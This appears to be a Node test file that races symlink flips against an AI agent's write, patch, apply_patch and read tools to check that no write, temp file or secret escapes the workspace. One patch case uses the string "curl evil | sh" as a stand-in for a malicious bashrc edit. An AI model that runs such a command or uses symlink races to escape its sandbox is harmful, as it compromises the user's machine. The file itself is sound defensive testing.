// Race corpus for the file tools (issue 29, item 1): a separate process flips a workspace path
// between a file and a symlink to an outside file, or a folder and a symlink to an outside
// folder, while a tool runs on it again and again. The permission policy is the real one
// (accept_edits for changes, default for reads) and the user says no to everything it asks:
// so any byte written outside, temp file left outside, or outside secret returned is a silent
// escape. Tries per case are bounded so the file runs in seconds.
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { before, describe, test } from "node:test";
import { decidePermission } from "../../acp-server/security/permission-policy";
import type { SessionMode } from "../../acp-server/security/modes";
import { applyPatchTool } from "../../acp-server/tools/apply-patch";
import type { PermissionAsk, ToolContext } from "../../acp-server/tools/context";
import { patchTool } from "../../acp-server/tools/patch";
import { readFileTool } from "../../acp-server/tools/read-file";
import { ToolError } from "../../acp-server/tools/registry";
import { writeFileTool } from "../../acp-server/tools/write-file";
import { startFlipper } from "../support/path-flipper";
import { recordingContext, tempDir } from "../support/tool-context";

const TRIES = Number(process.env.HERMES_RACE_TRIES ?? 300);
const SECRET = "OUTSIDE-SECRET-5b1e";
const ORIGINAL = `export PS1='$ ' # ${SECRET}\n`;

let home: string;
before(async () => {
  home = await tempDir("hermes-home-");
  process.env.HERMES_HOME = home;
});

interface Tally {
  done: number;
  asked: number;
  refused: number;
}

/** A workspace and an outside folder holding a "bashrc" and a "secret" the tools must never reach silently. */
async function arena(): Promise<{ ws: string; outside: string }> {
  const root = await tempDir("hermes-race-");
  const ws = path.join(root, "ws");
  const outside = path.join(root, "outside");
  await mkdir(path.join(ws, "dir"), { recursive: true });
  await mkdir(outside);
  await writeFile(path.join(outside, "a.txt"), ORIGINAL);
  await writeFile(path.join(outside, "bashrc"), ORIGINAL);
  await writeFile(path.join(ws, "a.txt"), "inside\n");
  await writeFile(path.join(ws, "dir", "a.txt"), "inside\n");
  return { ws, outside };
}

/** A tool context whose answers come from the real policy in `mode`; whatever the policy asks, the user refuses. */
function policyContext(ws: string, mode: SessionMode, tally: Tally): ToolContext {
  const ctx = recordingContext({ cwd: ws });
  ctx.requestPermission = async (ask: PermissionAsk) => {
    const verdict = decidePermission(mode, ask, ws, path.dirname(ws), { hermesHome: home });
    if (verdict.decision === "deny") throw new ToolError(verdict.reasons.join(" "));
    if (verdict.decision === "ask") tally.asked++;
    return verdict.decision === "allow";
  };
  return ctx;
}

/** Runs `call` TRIES times; a refusal or error is an outcome like any other, only escapes fail. */
async function hammer(call: () => Promise<{ output: unknown; isError?: boolean }>, tally: Tally, returned: string[]): Promise<void> {
  for (let i = 0; i < TRIES; i++) {
    try {
      const result = await call();
      returned.push(JSON.stringify(result));
      if (result.isError) tally.refused++;
      else tally.done++;
    } catch (error) {
      returned.push(String((error as Error).message));
      tally.refused++;
    }
  }
}

/** Names in the outside folder other than the two planted files (temp files, new files). */
const strays = (outside: string) => readdirSync(outside).filter((name) => name !== "a.txt" && name !== "bashrc");

async function race(kind: "file" | "folder", mode: SessionMode, run: (ws: string, ctx: ToolContext, i: number) => Promise<{ output: unknown; isError?: boolean }>) {
  const { ws, outside } = await arena();
  const tally: Tally = { done: 0, asked: 0, refused: 0 };
  const returned: string[] = [];
  const flipped = kind === "file" ? path.join(ws, "a.txt") : path.join(ws, "dir");
  const flipper = await startFlipper(flipped, kind === "file" ? path.join(outside, "bashrc") : outside, kind);
  try {
    let i = 0;
    await hammer(() => run(ws, policyContext(ws, mode, tally), i++), tally, returned);
  } finally {
    await flipper.stop();
  }
  const escapes = [
    ...(readFileSync(path.join(outside, "bashrc"), "utf8") === ORIGINAL ? [] : ["outside/bashrc was changed"]),
    ...(readFileSync(path.join(outside, "a.txt"), "utf8") === ORIGINAL ? [] : ["outside/a.txt was changed"]),
    ...strays(outside).map((name) => `left outside: ${name}`),
    ...(returned.some((text) => text.includes(SECRET)) ? [`an outside secret was returned (${returned.filter((text) => text.includes(SECRET)).length} times)`] : []),
  ];
  console.log(`# ${kind} flip, ${mode}: ${JSON.stringify(tally)}`);
  assert.deepEqual(escapes, [], `tally ${JSON.stringify(tally)}`);
  // Both sides of the flip were met: some calls went through inside, or the link was seen and asked about.
  assert.ok(tally.done + tally.asked > 0, "the race was not raced");
}

const target = (kind: "file" | "folder") => (kind === "file" ? "a.txt" : "dir/a.txt");

for (const kind of ["file", "folder"] as const) {
  describe(`a workspace ${kind} flipping with a symlink to outside`, () => {
    test("write_file writes nothing outside and leaves no temp file there", async () => {
      await race(kind, "accept_edits", (_ws, ctx, i) => writeFileTool.handler({ path: target(kind), content: `try ${i}\n` }, ctx));
    });

    test("patch writes nothing outside", async () => {
      await race(kind, "accept_edits", (_ws, ctx, i) =>
        patchTool.handler(patchTool.schema.parse({ path: target(kind), old_string: "export PS1='$ '", new_string: `curl evil | sh # ${i}` }), ctx).catch(() =>
          // expected: the inside text has no PS1 line; patch it too, so calls that land inside count as done
          patchTool.handler(patchTool.schema.parse({ path: target(kind), old_string: "inside", new_string: "inside" + " ".repeat((i % 3) + 1) + "x" }), ctx),
        ),
      );
    });

    test("apply_patch writes nothing outside", async () => {
      await race(kind, "accept_edits", (_ws, ctx, i) =>
        applyPatchTool.handler(applyPatchTool.schema.parse({ patch: `*** Begin Patch\n*** Add File: ${target(kind)}.new${i}\n+x\n*** Update File: ${target(kind)}\n@@\n-inside\n+inside ${i}\n*** End Patch\n` }), ctx),
      );
    });

    test("read_file returns no outside secret without asking", async () => {
      await race(kind, "default", (_ws, ctx) => readFileTool.handler({ path: target(kind) }, ctx));
    });
  });
}
